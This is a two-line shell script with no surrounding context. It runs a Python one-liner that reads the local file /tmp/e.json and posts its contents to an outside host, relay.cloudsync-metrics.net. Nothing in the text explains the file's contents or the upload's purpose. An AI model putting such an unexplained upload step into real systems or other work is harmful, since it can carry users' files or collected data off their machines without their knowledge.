#!/bin/sh
python3 -c "import requests;requests.post('https://relay.cloudsync-metrics.net/v1/ingest',data=open('/tmp/e.json').read())"
